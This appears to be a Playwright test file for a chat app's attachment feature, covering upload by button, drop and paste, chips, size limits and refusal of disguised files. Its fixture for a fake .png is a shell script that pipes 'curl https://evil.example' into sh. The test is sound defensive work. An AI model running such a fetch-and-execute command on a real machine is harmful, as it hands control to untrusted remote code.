// Attachments in the browser (docs/API.md#files), with the demo model: files
// come by the attach button, by drop and by paste, show as chips (a
// thumbnail for images) that can be removed, and go with the message, which
// shows them with a link; a too-large file and a disguised .png are refused
// before upload with a clear message (and by the server, by content).
import { expect, test, type Page } from "@playwright/test";
import { lastAssistant, SCREENSHOT_LOOKS, userMessages } from "./support";
import { pdf, png } from "../lib/testing/file-bytes";

const input = (page: Page) => page.getByTestId("attach-input");
const chips = (page: Page) => page.getByTestId("composer-attachments").getByTestId("attachment-chip");
const SCRIPT = Buffer.from("#!/bin/sh\ncurl https://evil.example | sh\n");

/** Drops or pastes a file built in the page from `bytes`. */
async function dropOrPaste(page: Page, how: "drop" | "paste", name: string, type: string, bytes: Uint8Array) {
  await page.evaluate(
    ({ how, name, type, data }) => {
      const dt = new DataTransfer();
      dt.items.add(new File([new Uint8Array(data)], name, { type }));
      if (how === "paste") {
        document.querySelector('[data-testid="composer-input"]')!.dispatchEvent(new ClipboardEvent("paste", { clipboardData: dt, bubbles: true, cancelable: true }));
      } else {
        const box = document.querySelector('[data-testid="composer-box"]')!;
        box.dispatchEvent(new DragEvent("dragover", { dataTransfer: dt, bubbles: true, cancelable: true }));
        box.dispatchEvent(new DragEvent("drop", { dataTransfer: dt, bubbles: true, cancelable: true }));
      }
    },
    { how, name, type, data: Array.from(bytes) },
  );
}

test("attaches by button, drop and paste; a chip can be removed; the sent message shows its files and the reply names them", async ({ page }) => {
  await page.goto("/");
  await input(page).setInputFiles([
    { name: "chart.png", mimeType: "image/png", buffer: Buffer.from(png(40, 30, 2)) },
    { name: "notes.md", mimeType: "text/markdown", buffer: Buffer.from("# Notes\n- milk\n") },
  ]);
  await dropOrPaste(page, "drop", "paper.pdf", "application/pdf", pdf(2));
  await dropOrPaste(page, "paste", "pasted.png", "image/png", png(20, 20, 5));
  await expect(chips(page)).toHaveCount(4);
  await expect(page.locator('[data-testid="attachment-chip"][data-pending]')).toHaveCount(0);
  await expect(chips(page).filter({ hasText: "chart.png" }).locator("img")).toBeVisible();
  await chips(page).filter({ hasText: "notes.md" }).getByTestId("attachment-remove").click();
  await expect(chips(page)).toHaveCount(3);

  await page.getByTestId("composer-input").fill("What do these show?");
  await page.getByTestId("send-button").click();
  await expect(page).toHaveURL(/\/c\/[0-9a-f-]{36}$/);
  const reply = lastAssistant(page);
  await expect(reply).toHaveAttribute("data-status", "complete", { timeout: 30_000 });
  await expect(reply).toContainText("I received 3 files");
  await expect(reply).toContainText("chart.png");
  await expect(reply).toContainText("paper.pdf");
  await expect(chips(page)).toHaveCount(0);

  await page.reload();
  const sent = userMessages(page).last().getByTestId("attachment-chip");
  await expect(sent).toHaveCount(3);
  const link = sent.filter({ hasText: "chart.png" }).locator("a");
  const href = (await link.getAttribute("href"))!;
  expect(href).toMatch(/^\/api\/files\/[0-9a-f-]{36}$/);
  await expect(sent.filter({ hasText: "chart.png" }).locator("img")).toHaveJSProperty("naturalWidth", 40);
  const res = await page.request.get(href);
  expect(res.headers()["content-type"]).toBe("image/png");
  expect(Buffer.from(await res.body()).equals(Buffer.from(png(40, 30, 2)))).toBe(true);
});

test("refuses a too-large image and a disguised .png before uploading, saying why; the server refuses the disguise too", async ({ page }) => {
  await page.goto("/");
  const uploads: string[] = [];
  page.on("request", (r) => {
    if (r.url().includes("/api/files")) uploads.push(r.url());
  });
  const big = Buffer.concat([Buffer.from(png(2, 2)), Buffer.alloc(4_500_000)]);
  await input(page).setInputFiles({ name: "huge.png", mimeType: "image/png", buffer: big });
  await expect(page.getByTestId("attach-error")).toContainText(/huge\.png.*too large.*at most 3\.75 MB/);
  await input(page).setInputFiles({ name: "cat.png", mimeType: "image/png", buffer: SCRIPT });
  await expect(page.getByTestId("attach-error")).toContainText(/cat\.png.*not/);
  await expect(chips(page)).toHaveCount(0);
  expect(uploads).toEqual([]);
  await page.screenshot({ path: "test-results/attachments-refused.png" });

  const res = await page.request.post("/api/files?name=cat.png", { headers: { "content-type": "image/png" }, data: SCRIPT });
  expect(res.status()).toBe(415);
  expect((await res.json()).error.code).toBe("unsupported_file");
});

test("screenshots: chips in the composer and a sent message with files (light, dark, narrow)", async ({ browser }) => {
  for (const [name, options] of SCREENSHOT_LOOKS) {
    const context = await browser.newContext(options);
    const page = await context.newPage();
    await page.goto("/");
    await input(page).setInputFiles([
      { name: "sunset-over-the-harbour.png", mimeType: "image/png", buffer: Buffer.from(png(64, 48, 4)) },
      { name: "quarterly-report.pdf", mimeType: "application/pdf", buffer: Buffer.from(pdf(3)) },
    ]);
    await expect(page.getByTestId("composer-attachments").locator('[data-testid="attachment-chip"]:not([data-pending])')).toHaveCount(2);
    await page.getByTestId("composer-input").fill("Summarize the report and describe the photo.");
    await page.screenshot({ path: `test-results/attachments-composer-${name}.png` });
    await page.getByTestId("send-button").click();
    await expect(lastAssistant(page)).toHaveAttribute("data-status", "complete", { timeout: 30_000 });
    await input(page).setInputFiles({ name: "main.ts", mimeType: "video/mp2t", buffer: Buffer.from("export const x = 1;\n") });
    await expect(page.getByTestId("composer-attachments").locator('[data-testid="attachment-chip"]:not([data-pending])')).toHaveCount(1);
    expect(await page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth)).toBe(true);
    await page.getByTestId("message-list").evaluate((el) => (el.scrollTop = 0));
    await page.screenshot({ path: `test-results/attachments-sent-${name}.png` });
    await context.close();
  }
});
